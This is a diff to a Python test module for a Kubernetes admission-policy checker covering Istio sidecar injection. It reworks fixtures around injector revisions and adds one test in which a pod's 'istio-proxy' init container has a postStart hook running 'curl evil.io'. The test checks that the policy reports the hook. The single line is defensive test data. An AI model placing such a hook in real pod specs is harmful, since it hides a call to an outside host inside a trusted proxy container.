@@ -3,7 +3,7 @@
 import copy
 import json
 from collections.abc import Callable, Iterator
-from typing import Any
+from typing import Any, NamedTuple
 
 import jsonpatch
 import pytest
@@ -13,6 +13,7 @@ from hypothesis import settings as configure
 from tests.cluster.api import Json, Refused
 from tests.cluster.istiod import Istiod
 from tests.cluster.plane import ControlPlane
+from tests.fixtures.meshes import istio as fixtures
 from tests.fuzz import edits, law
 from tests.standins.istio import INJECT, InjectionError, InjectorConfig, inject
 from tests.unit.policy.judge import judge, whole_patch
@@ -163,13 +164,33 @@ def cni(istio_plane: ControlPlane, istiod: Istiod) -> Iterator[Istiod]:
         yield running
 
 
-@pytest.fixture
-def enabled(istio_plane: ControlPlane) -> str:
-    """A namespace whose pods all go to the injector, with the fixtures' ServiceAccount."""
-    where = istio_plane.new_namespace("istio", labels={"istio-injection": "enabled"})
+class Injected(NamedTuple):
+    """A namespace whose pods all go to one istiod, and what that makes of the plain pod."""
+
+    namespace: str
+    config: InjectorConfig
+    untouched: Json
+
+
+@pytest.fixture(params=["default", "plugin"])
+def injected(
+    istio_plane: ControlPlane, istiod: Istiod, cni: Istiod, request: pytest.FixtureRequest
+) -> Injected:
+    """Each revision in turn, with the fixtures' ServiceAccount."""
+    plugin = request.param == cni.revision
+    labels = {"istio.io/rev": cni.revision} if plugin else {"istio-injection": "enabled"}
+    where = istio_plane.new_namespace("istio", labels=labels)
     metadata = {"name": "shop", "namespace": where}
     istio_plane.api.create({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata})
-    return where
+    untouched = create(istio_plane, fixtures.app(), where)
+    return Injected(where, InjectorConfig(cni=plugin, revision=request.param), untouched)
+
+
+def create(plane: ControlPlane, asked: Json, where: str) -> Json:
+    """Return what is stored of a pod: our mutating webhook's patch first, then the injector."""
+    asked = {**asked, "metadata": {**asked["metadata"], "namespace": where}}
+    patched = jsonpatch.apply_patch(asked, whole_patch(asked, by="istio"))
+    return plane.api.create(patched, dry_run=True)
 
 
 def pod(where: str, annotations: dict[str, str], spec: Json, **labels: str) -> Json:
@@ -186,24 +207,34 @@ def pod(where: str, annotations: dict[str, str], spec: Json, **labels: str) -> J
     }
 
 
-@configure(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
+@configure(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
 @given(asked=edits.wishes("istio"))
 def test_whatever_an_author_asks_the_real_istiod_for_is_captured_or_refused(
-    plane: ControlPlane, istiod: Istiod, enabled: str, asked: Json
+    plane: ControlPlane, injected: Injected, asked: Json
 ) -> None:
     """The fuzzer's law, of pods as the real injector makes them; both injectors' are judged alike.
 
-    Our mutating webhook's patch is applied first. What is stored is judged afterwards.
+    What is stored is judged afterwards.
     """
-    asked["metadata"]["namespace"] = enabled
-    asked = jsonpatch.apply_patch(asked, whole_patch(asked, by="istio"))
     try:
-        stored = plane.api.create(asked, dry_run=True)
-        made = inject(asked)
+        stored = create(plane, asked, injected.namespace)
+        made = inject(jsonpatch.apply_patch(asked, whole_patch(asked, by="istio")), injected.config)
     except (Refused, InjectionError):
         return
-    law.holds("istio", edits.Life(asked, stored, stored, None))
+    law.holds("istio", edits.Life(asked, injected.untouched, stored, None))
     assert judge(stored, by="istio").allowed == judge(made, by="istio").allowed
+
+
+def test_what_only_the_untouched_pod_shows_the_law_sees(
+    plane: ControlPlane, injected: Injected
+) -> None:
+    asked = fixtures.app()
+    hook = {"postStart": {"exec": {"command": ["curl", "evil.io"]}}}
+    asked["spec"]["initContainers"] = [{"name": "istio-proxy", "image": "auto", "lifecycle": hook}]
+    stored = create(plane, asked, injected.namespace)
+    assert law.complaints("istio", injected.untouched, injected.untouched) == []
+    assert law.complaints("istio", stored) == []
+    assert law.complaints("istio", stored, injected.untouched) == ["istio-proxy runs curl evil.io"]
 
 
 def essence(pod: Json) -> Json:
